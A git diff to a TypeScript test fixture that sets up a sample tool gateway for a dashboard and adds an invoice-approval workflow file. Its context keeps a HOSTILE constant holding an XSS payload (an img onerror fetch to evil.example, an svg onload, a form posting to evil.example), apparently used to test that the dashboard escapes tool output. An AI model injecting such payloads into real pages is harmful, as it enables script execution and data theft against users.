@@ -1,6 +1,7 @@
+import { workflows } from "../../../src/adapters/sources/index.ts";
 import { openaiDialect } from "../../../src/adapters/dialects/openai/openai.ts";
 import type { Dialect } from "../../../src/transcode/dialect.port.ts";
-import { mkdtemp, rm } from "node:fs/promises";
+import { mkdtemp, rm, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { ToolArsenal, type ToolArsenalConfig } from "../../../src/index.ts";
@@ -15,6 +16,15 @@ import { peerProgram } from "../../peers/peers.ts";
 /** What a tool says that wants to run code in the page that shows it. */
 export const HOSTILE =
   "<img src=x onerror=\"fetch('https://evil.example')\"><svg onload=alert(1)><form action=//evil.example>";
+
+const BILL = `
+name: bill
+description: Looks up an invoice and asks a person whether it is right.
+inputs: { type: object, properties: { invoice: { type: string } }, required: [invoice] }
+steps:
+  - { id: invoice, tool: billing.get_invoice, arguments: { invoiceId: "\${{ inputs.invoice }}" } }
+  - { id: right, needs: [invoice], approval: "Is \${{ inputs.invoice }} right?" }
+`;
 
 /** A gateway with everything that the dashboard shows. */
 export interface SampleGateway {
@@ -82,6 +92,8 @@ export async function openSampleGateway(clock: Clock = systemClock): Promise<Sam
   }
   const upstream = await startLegacyServer();
   await arsenal.addMcpServer({ name: "notes", transport: { kind: "http", url: upstream.url } });
+  await writeFile(join(folder, "bill.yaml"), BILL);
+  await arsenal.add(workflows({ name: "flows", paths: [join(folder, "bill.yaml")] }));
   await arsenal.sync();
   const gateway = await arsenal.serve({ port: 0 });
   return {
